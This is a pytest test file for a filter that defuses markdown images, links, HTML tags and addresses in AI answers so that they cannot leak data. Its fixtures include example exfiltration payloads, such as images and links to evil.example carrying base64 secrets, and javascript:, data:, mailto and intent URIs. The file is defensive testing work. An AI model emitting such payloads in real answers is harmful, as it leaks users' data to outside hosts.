"""What is made inert in answers, and what is left to follow."""

import time

import pytest

from egress_gateway.screen.defuse import LONGEST_ALT, LONGEST_TAG, MOST_LABELS, DefusingFilter

DATA = "dGhlIHVzZXIgc2FpZCBzb21ldGhpbmcgc2VjcmV0"
LONG = "x" * 3_000


def defused(text: str, piece: int = 0) -> tuple[str, int]:
    filter_ = DefusingFilter(["good.example", "*.cdn.example"], lambda text: "card" in text)
    pieces = [text[at : at + piece] for at in range(0, len(text), piece)] if piece else [text]
    return "".join(map(filter_.feed, pieces)) + filter_.close(), filter_.carrying


CASES = {
    "an image": ("![a](https://evil.example/p.png)", "![a](hxxps://evil.example/p.png)", 0),
    "an image with data": (f"![a](https://evil.example/p?d={DATA})", "![a](hxxps://evil.example/…)", 1),
    "an image of a named host": ("![a](https://good.example/p.png)", "![a](https://good.example/p.png)", 0),
    "an image below a named host": ("![a](https://a.cdn.example/p)", "![a](https://a.cdn.example/p)", 0),
    "an image without scheme": ("![a](//evil.example/p.png)", "![a](hxxps://evil.example/p.png)", 0),
    "an image of the page's own": ("![a](figures/p.png)", "![a](figures/p.png)", 0),
    "an image in angle brackets": ("![a](<https://evil.example/a b>)", "![a](<hxxps://evil.example/ab>)", 0),
    "an escaped image": ("![a](https\\://evil.example/p)", "![a](hxxps://evil.example/p)", 0),
    "an image in entities": ("![a](&#104;ttps://evil.example/p)", "![a](hxxps://evil.example/p)", 0),
    "an image with brackets in its text": ("![a [b] c](http://e.example/)", "![a [b] c](hxxp://e.example/)", 0),
    "an image as a link": ("[![a](//e.example/p)](//f.example)", "[![a](hxxps://e.example/p)](//f.example)", 0),
    "an image by reference": ("![a][r]\n\n[R]: //e.example/p", "![a][r]\n\n[R]: hxxps://e.example/p", 0),
    "an image defined before": ("[r]: //e.example/p\n\n![a][r]", "[r]: //e.example/p\n\n[a][r]", 0),
    "an image by its own text": ("![r] and\n[r]: //e.example/p", "![r] and\n[r]: hxxps://e.example/p", 0),
    "an image that never ends": (f"![{LONG}\n[r]: //e.example/p", f"![{LONG}\n[r]: hxxps://e.example/p", 0),
    "an image behind another address": (
        "https://a.example/![x](https://e.example/p)",
        "https://a.example/![x](hxxps://e.example/p)",
        0,
    ),
    "an image far from its address": (f"![a]({' ' * 300}//e.example/p)", f"![a](…{' ' * 300}//e.example/p)", 0),
    "an image with a long text": (f"![{LONG}](//e.example/p)", f"![{LONG}](hxxps://e.example/p)", 0),
    "an image with code in its text": ("![`]`](//e.example/p)", "![`]`](hxxps://e.example/p)", 0),
    "an image with an address in its text": ("![<x:]>](//e.example/p)", "![<x:]>](hxxps://e.example/p)", 0),
    "an image with a tag in its text": ('![<b t="]">](//e.example/p)', '![<b t="]">](hxxps://e.example/p)', 0),
    "an image in a quote": ("> ![a](\n> //e.example/p)", "> ![a](\n> hxxps://e.example/p)", 0),
    "a definition in a quote": ("> ![a]\n> [a]:\n> //e.example/p", "> ![a]\n> [a]:\n> hxxps://e.example/p", 0),
    "a label in a quote": ("> ![a\n> b]\n\n[a b]: //e.example/p", "> ![a\n> b]\n\n[a b]: hxxps://e.example/p", 0),
    "a definition before an unclear image": ("[]`]: //e.example/p\n![`]`]", "[]`]: //e.example/p\n[`]`]", 0),
    "a link behind an unclear image": ("![`](b) [a](//e.example/p)", "![`](b) [a](hxxps://e.example/p)", 0),
    "a link": ("[a](https://e.example/a/b?page=2#top)", "[a](https://e.example/a/b?page=2#top)", 0),
    "a link with data": (f"[a](https://e.example/?d={DATA})", "[a](hxxps://e.example/…)", 1),
    "a link with a finding": ("[a](https://e.example/?d=card)", "[a](hxxps://e.example/…)", 1),
    "a link with an image in its address": ("[a](https://e.example/![b)", "[a](hxxps://e.example/…)", 0),
    "a link that runs code": ("[a](javascript:alert(1))", "[a](javascript…)", 0),
    "a link to a document in itself": ("[a](data:text/html,x)", "[a](data…)", 0),
    "a mail with data": (f"[a](mailto:a{chr(64)}e.example?body={DATA})", "[a](mailto…)", 1),
    "a mail": (f"[a](mailto:a{chr(64)}e.example?subject=Hi)", f"[a](mailto:a{chr(64)}e.example?subject=Hi)", 0),
    "an intent with data": (f"[a](intent://e.example/#Intent;S.x={DATA};end)", "[a](intent…)", 1),
    "a picture in itself": ("![a](data:image/png;base64,AAAA)", "![a](data:image/png;base64,AAAA)", 0),
    "a definition with data": (f"[1]: https://e.example/#{DATA}", "[1]: hxxps://e.example/…", 1),
    "an address in prose": ("See https://e.example/a_(b).", "See https://e.example/a_(b).", 0),
    "an address with a token": ("(https://e.example/EMAIL_SE9R57SMNRE).", "(hxxps://e.example/…).", 1),
    "an address with a mark": ("https://e.example/?m=[EMAIL]", "hxxps://e.example/…", 1),
    "an address without scheme": (f"www.e.example/?{DATA} x", "hxxps://www[.]e.example/… x", 1),
    "an address without end": (f"https://e.example/{LONG}", f"hxxps://e.example/…{LONG[: 3018 - 2048]}", 1),
    "an image without end": (f"![a](https://e.example/{LONG}", f"![a](hxxps://e.example/…{LONG[: 3018 - 2048]}", 1),
    "an autolink": (f"<https://e.example/?{DATA}>", "<hxxps://e.example/…>", 1),
    "a tag that loads": ("<img src=https://e.example/p>", "&lt;img src=https://e.example/p>", 0),
    "a tag in entities": ("<IMG src='&#104;ttps://e.example/p'>", "&lt;IMG src='&#104;ttps://e.example/p'>", 0),
    "a tag of a named host": ("<img src='//good.example/p'>", "<img src='//good.example/p'>", 0),
    "a tag with a link": ("<a href='https://e.example/p'>x</a>", "<a href='https://e.example/p'>x</a>", 0),
    "a tag with data": (f"<a href='//e.example/?{DATA}'>x", f"&lt;a href='//e.example/?{DATA}'>x", 1),
    "a tag that is cut": ("<img src=https://e.example/p", "&lt;img src=https://e.example/p", 0),
    "a tag with a greater-than": ("<img alt='>' src=//e.example/p>", "&lt;img alt='>' src=//e.example/p>", 0),
    "a tag without end": (f"<img src='//e.example/{LONG * 2}'>", f"&lt;img src='//e.example/{LONG * 2}'>", 1),
    "a tag with a long text": (
        f"<img alt='{LONG * 2}' src=//e.example>",
        f"&lt;img alt='{LONG * 2}' src=//e.example>",
        0,
    ),
    "a tag cut in its text": (
        f"<a t='{'>' * 6_000}' href=//e.example>",
        f"&lt;a t='{'>' * 6_000}' href=//e.example>",
        0,
    ),
    "a tag that seems to end": ("<a b <c href=//e.example>", "&lt;a b <c href=//e.example>", 0),
    "a tag in a quote": ("> <img\n> src=//e.example>", "> &lt;img\n> src=//e.example>", 0),
    "a tag over several lines": (
        "<input\n  size=1\n>\n<input\n  size=1\n>",
        "<input\n  size=1\n>\n<input\n  size=1\n>",
        0,
    ),
    "a tag that is none": ("<a ![x](https://e.example/p)>", "<a ![x](hxxps://e.example/p)>", 0),
    "a style": ("<b style='background:url(//e.example/p)'>", "<b style='background:url(hxxps://e.example/p)'>", 0),
    "an import": ("@import 'https://e.example/c.css'", "@import 'hxxps://e.example/c.css'", 0),
    "code": ("vec![1, 2]; a[i](x); x[1]: int; a <b && c> d", "vec![1, 2]; a[i](x); x[1]: int; a <b && c> d", 0),
    "words that begin like addresses": ("http, ftp and www", "http, ftp and www", 0),
}


@pytest.mark.parametrize("name", CASES)
@pytest.mark.parametrize("piece", [0, 1, 7])
def test_what_is_defused(name: str, piece: int) -> None:
    text, expected, carrying = CASES[name]
    assert defused(text, piece) == (expected, carrying)


def test_a_part_without_addresses_is_released_at_once() -> None:
    filter_ = DefusingFilter([], lambda _text: False)
    assert filter_.feed("What is said. And h") == "What is said. And "
    assert filter_.feed("ere") == "here"


def test_an_image_is_held_until_it_is_clear_where_it_leads() -> None:
    filter_ = DefusingFilter([], lambda _text: False)
    assert filter_.feed("a ![text") == "a "
    assert filter_.feed("x" * LONGEST_ALT) == "![text" + "x" * LONGEST_ALT
    assert filter_.feed(" <img" + " " * (LONGEST_TAG - 8)) == " "
    assert filter_.held == LONGEST_TAG - 4


def test_of_very_many_labels_each_may_be_an_image() -> None:
    labels = "".join(f"![{number}] " for number in range(MOST_LABELS + 1))
    assert defused(labels + "\n[r]: //e.example/p")[0].endswith("[r]: hxxps://e.example/p")
    defined = "".join(f"[{number}]: //e.example/p\n" for number in range(MOST_LABELS + 1))
    assert defused(defined + "![a][r]")[0].endswith("\n[a][r]")


CROWDED = [
    "![](",
    "](",
    "]:",
    "<a ",
    "<img ",
    "<img src=//a ",
    "<a\n>b ",
    "url(",
    "](<\\",
    "&#1;url(",
    "https://",
    "![",
    "[",
    "<a '",
    "www.a/?",
]


@pytest.mark.parametrize("opener", CROWDED)
def test_twice_the_openers_take_no_more_than_linear_time(opener: str) -> None:
    def seconds(length: int) -> float:
        text = opener * (length // len(opener))
        best = float("inf")
        for _ in range(3):
            began = time.process_time()
            defused(text)
            best = min(best, time.process_time() - began)
        return best

    assert seconds(16_000) < 3.5 * seconds(8_000) + 0.02


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("![a](//e.example/p)", "[a](…//e.example/p)"),
        ("[r]: //e.example/p", "[r]:… //e.example/p"),
        ("<img src=//e.example/p>", "&lt;img src=//e.example/p>"),
        ("url(//e.example/p)", "url(…//e.example/p)"),
        ("https://e.example/p www.e.example", "https…//e.example/p www…e.example"),
    ],
)
def test_behind_a_crowd_of_openers_all_is_defused_unread(text: str, expected: str) -> None:
    said = "](<\\" * 200 + f"{text} {LONG}"
    shown, _ = defused(said)
    assert shown.endswith(f"{expected} {LONG}")
    assert defused(said, 7)[0] == shown


def test_a_crowd_is_read_for_no_longer_than_its_length() -> None:
    filter_ = DefusingFilter([], lambda _text: False)
    began = time.process_time()
    filter_.feed("](<\\" * 20_000)
    assert time.process_time() - began < 2


def test_an_answer_full_of_addresses_is_read_to_its_end() -> None:
    row = "<tr><td style='background:url(#x)'>![a](https://good.example/p) [b](https://e.example/page?n=1)</td></tr>\n"
    assert defused(row * 2_000) == (row * 2_000, 0)
